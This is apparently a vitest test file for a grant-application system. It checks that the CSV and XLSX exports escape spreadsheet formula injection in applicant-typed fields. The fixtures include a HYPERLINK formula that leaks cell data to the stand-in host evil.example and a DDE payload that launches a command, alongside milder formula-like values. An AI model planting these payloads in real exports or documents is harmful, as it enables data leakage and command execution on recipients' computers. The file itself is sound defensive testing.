import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ore } from '../../src/domain/money.ts';
import { FORMULA_TRIGGERS } from '../../src/domain/spreadsheet.ts';
import { Client, createTestApp, type TestApp } from '../support/app.ts';
import { asking, demoTemplate, publishedCall, receivedApplication } from '../support/fixtures.ts';
import { readZipText } from '../support/zip.ts';

let t: TestApp;
let sn: string;
let callId: string;
let caseworker: Client;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klicka här")';

beforeAll(async () => {
  t = await createTestApp();
  const template = await demoTemplate(t.db);
  sn = template.funderId;
  // What applicants typed, and a call title a member of staff typed, each starting like a formula.
  const call = await publishedCall(t.db, template, { title: '\t=1+1 Trygghet' });
  callId = call.id;
  await receivedApplication(t.db, template, callId, {
    organisation: { name: HYPERLINK },
    caseNumber: 'SN 2026/00101',
    content: {
      ...asking(ore(9_000_000), '+1 nattvandrare'),
      focusAreas: ['@SUM(1)'],
      activities: [{ ...template.content.activities[0], areas: ['-2+3'] }],
      contacts: [{ name: '=cmd|"/C calc"!A0', email: 'a@example.org', phone: '+46 70 000 00 00' }],
    },
  });
  await receivedApplication(t.db, template, callId, {
    organisation: { name: '\r@Förening' },
    caseNumber: 'SN 2026/00102',
    content: asking(ore(5_000_000), '-2+3'),
  });
  caseworker = new Client(t.app);
  await caseworker.login('handlaggare@norrkoping.example');
});
afterAll(() => t.close());

const startsLikeFormula = (cell: string) => FORMULA_TRIGGERS.includes(cell[0] ?? '');

describe('the inbox export', () => {
  it('writes CSV in which nothing an applicant typed starts like a formula, and amounts stay numbers', async () => {
    const res = await caseworker.get(`/api/funders/${sn}/applications.csv?callId=${callId}&sort=submitted_asc`);
    expect(res.status).toBe(200);
    const [headers, ...rows]: string[][] = parse(String(res.body), { bom: true, delimiter: ';' });
    expect(headers[3]).toBe('Organisation');
    expect(rows.map((r) => r[0])).toEqual(['SN 2026/00101', 'SN 2026/00102']);
    const [first, second] = rows;
    expect(first[2]).toBe("'\t=1+1 Trygghet");
    expect(first[3]).toBe(`'${HYPERLINK}`);
    expect(first[4]).toBe('Ideell förening');
    expect(first[5]).toBe("'+1 nattvandrare");
    expect(first[6]).toBe('90000');
    expect(first[7]).toBe("'-2+3");
    expect(first[8]).toBe("'@SUM(1)");
    expect(second[3]).toBe("'\r@Förening");
    expect(second[5]).toBe("'-2+3");
    expect(second[6]).toBe('50000');
    for (const cell of [headers, ...rows].flat()) expect(startsLikeFormula(cell), JSON.stringify(cell)).toBe(false);
  });

  it('writes XLSX with the same cells as text, amounts as numbers, and no formula in the sheet', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/funders/${sn}/applications.xlsx?callId=${callId}&sort=submitted_asc`,
      headers: { cookie: [...caseworker.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Ansökningar');
    expect(sheet?.rowCount).toBe(3);
    const cell = (row: number, col: number) => sheet?.getRow(row).getCell(col).value;
    expect(cell(2, 1)).toBe('SN 2026/00101');
    expect(cell(2, 3)).toBe("'\t=1+1 Trygghet");
    expect(cell(2, 4)).toBe(`'${HYPERLINK}`);
    expect(cell(2, 6)).toBe("'+1 nattvandrare");
    expect(cell(2, 7)).toBe(90000);
    expect(cell(2, 8)).toBe("'-2+3");
    expect(cell(2, 9)).toBe("'@SUM(1)");
    // XML reads a carriage return back as a line feed; the apostrophe still comes first.
    expect(cell(3, 4)).toBe("'\n@Förening");
    expect(cell(3, 7)).toBe(50000);
    sheet?.eachRow((row) => {
      row.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') expect(startsLikeFormula(c.value), c.value).toBe(false);
      });
    });
    expect(await readZipText(res.rawPayload, 'xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
  });
});
